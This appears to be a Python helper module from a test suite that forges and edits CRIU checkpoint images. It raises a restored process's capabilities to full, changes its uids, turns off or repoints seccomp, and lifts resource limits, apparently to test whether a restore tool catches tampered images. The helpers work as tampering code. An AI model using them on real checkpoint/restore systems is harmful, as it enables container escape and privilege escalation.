"""Make and edit CRIU images as an attacker would: re-encode the protobuf with more privilege.

A CRIU image is two 32-bit magic words, then entries, each a 4-byte little-endian size and a
protobuf message (https://criu.org/Images). ``core-<pid>.img`` holds one ``core_entry``; its
``thread_core`` (field 5) carries the task's ``creds`` (field 10: capabilities as pairs of 32-bit
words) and ``seccomp_mode`` (field 11: 0 disabled, 1 strict, 2 filter). Fields not edited are
carried over as they were, so the image stays valid for the CRIU that wrote it:
``tests/e2e/attacks/test_criu_images.py`` reads an edited image back with ``crit decode``.
"""

from __future__ import annotations

from ferry.archive import criu_images as ci
from ferry.archive import protowire as pw

FULL_CAPS = [0xFFFFFFFF, 0x1FF]


def entries(data: bytes) -> tuple[bytes, list[bytes]]:
    """(the two magic words, the entries) of a CRIU image."""
    out, pos = [], 8
    while pos < len(data):
        size = int.from_bytes(data[pos : pos + 4], "little")
        out.append(data[pos + 4 : pos + 4 + size])
        pos += 4 + size
    return data[:8], out


def image(magic: bytes, messages: list[bytes]) -> bytes:
    return magic + b"".join(len(m).to_bytes(4, "little") + m for m in messages)


def pstree_image(*tasks: list[int]) -> bytes:
    """pstree.img with one task per item: its pid first, then its further threads."""
    magic = ci.IMG_COMMON_MAGIC.to_bytes(4, "little") + ci.PSTREE_MAGIC.to_bytes(4, "little")
    msgs = []
    for tids in tasks:
        fields = {ci.PSTREE_PID: [(pw.VARINT, tids[0])], 2: [(pw.VARINT, 0)], 3: [(pw.VARINT, 1)], 4: [(pw.VARINT, 1)]}
        fields[ci.PSTREE_THREADS] = [(pw.VARINT, t) for t in tids]
        msgs.append(pw.encode_fields(fields))
    return image(magic, msgs)


def core_image(*, uid: int = 0, caps: list[int] | None = None, seccomp_mode: int | None = None) -> bytes:
    """A minimal live core image (x86_64) with the given credentials."""
    ids = {n: [(pw.VARINT, uid if name.endswith("uid") else 0)] for name, n in ci.CREDS_IDS.items()}
    words = caps if caps is not None else [0, 0]
    creds = {**ids, **{n: [(pw.VARINT, w) for w in words] for n in (10, 11, 12)}, 13: [(pw.VARINT, 0)]}
    creds[9] = [(pw.VARINT, 0), (pw.VARINT, 0)]  # inheritable: empty, as Podman's specs leave it
    thread: dict[int, list[tuple[int, pw.Value]]] = {
        1: [(pw.VARINT, 0)],
        2: [(pw.VARINT, 0)],
        ci.THREAD_CREDS: [(pw.LENGTH, pw.encode_fields(creds))],
    }
    if seccomp_mode is not None:
        thread[ci.THREAD_SECCOMP_MODE] = [(pw.VARINT, seccomp_mode)]
    tc = {1: [(pw.VARINT, 1)], 2: [(pw.VARINT, 0)], 3: [(pw.VARINT, 0)], 4: [(pw.VARINT, 0)], 5: [(pw.VARINT, 0)]}
    tc[6] = [(pw.LENGTH, b"sh")]
    core = {1: [(pw.VARINT, 1)], ci.CORE_TC: [(pw.LENGTH, pw.encode_fields(tc))]}
    core[ci.CORE_THREAD_CORE] = [(pw.LENGTH, pw.encode_fields(thread))]
    magic = ci.IMG_COMMON_MAGIC.to_bytes(4, "little") + ci.CORE_MAGIC.to_bytes(4, "little")
    return image(magic, [pw.encode_fields(core)])


def cap_words(mask: int) -> list[int]:
    return [mask & 0xFFFFFFFF, mask >> 32]


def escalate(
    data: bytes, *, caps: list[int] | None = FULL_CAPS, uid: int | None = None, seccomp_off: bool = True
) -> bytes:
    """A real core image with every capability set to ``caps`` (None: unchanged), every uid to
    ``uid`` (None: unchanged) and, optionally, seccomp off."""
    magic, (entry,) = entries(data)
    core = pw.fields(entry)
    thread = pw.fields(bytes(core[ci.CORE_THREAD_CORE][0][1]))  # type: ignore[arg-type]
    creds = pw.fields(bytes(thread[ci.THREAD_CREDS][0][1]))  # type: ignore[arg-type]
    for number in ci.CREDS_CAPS.values() if caps is not None else ():
        creds[number] = [(pw.VARINT, w) for w in caps or []]
    if uid is not None:
        for name, number in ci.CREDS_IDS.items():
            if name.endswith("uid"):
                creds[number] = [(pw.VARINT, uid)]
    thread[ci.THREAD_CREDS] = [(pw.LENGTH, pw.encode_fields(creds))]
    if seccomp_off:
        thread[ci.THREAD_SECCOMP_MODE] = [(pw.VARINT, 0)]
        thread.pop(ci.THREAD_SECCOMP_FILTER, None)
    core[ci.CORE_THREAD_CORE] = [(pw.LENGTH, pw.encode_fields(thread))]
    return image(magic, [pw.encode_fields(core)])


def point_at_filter(data: bytes, index: int) -> bytes:
    """The core image with its thread's seccomp filter index set (and the old per-task one dropped)."""
    magic, (entry,) = entries(data)
    core = pw.fields(entry)
    thread = pw.fields(bytes(core[ci.CORE_THREAD_CORE][0][1]))  # type: ignore[arg-type]
    thread[ci.THREAD_SECCOMP_FILTER] = [(pw.VARINT, index)]
    core[ci.CORE_THREAD_CORE] = [(pw.LENGTH, pw.encode_fields(thread))]
    if ci.CORE_TC in core:
        tc = pw.fields(bytes(core[ci.CORE_TC][0][1]))  # type: ignore[arg-type]
        tc.pop(ci.TC_OLD_SECCOMP_FILTER, None)
        core[ci.CORE_TC] = [(pw.LENGTH, pw.encode_fields(tc))]
    return image(magic, [pw.encode_fields(core)])


def unlimited_rlimits(data: bytes) -> bytes:
    """The core image with every resource limit of the task raised to unlimited."""
    magic, (entry,) = entries(data)
    core = pw.fields(entry)
    tc = pw.fields(bytes(core[ci.CORE_TC][0][1]))  # type: ignore[arg-type]
    infinity = (1 << 64) - 1
    limit = pw.encode_fields({1: [(pw.VARINT, infinity)], 2: [(pw.VARINT, infinity)]})
    tc[ci.TC_RLIMITS] = [(pw.LENGTH, pw.encode_fields({1: [(pw.LENGTH, limit)] * 16}))]
    core[ci.CORE_TC] = [(pw.LENGTH, pw.encode_fields(tc))]
    return image(magic, [pw.encode_fields(core)])


def process_caps(pid: int | str = "self", which: str = "CapBnd") -> int:
    """A capability mask from /proc/<pid>/status (CapEff, CapBnd, ...)."""
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(which + ":"):
                return int(line.split()[1], 16)
    raise ValueError(f"no {which} in /proc/{pid}/status")


def seccomp_mode(pid: int | str) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("Seccomp:"):
                return int(line.split()[1])
    raise ValueError(f"no Seccomp in /proc/{pid}/status")
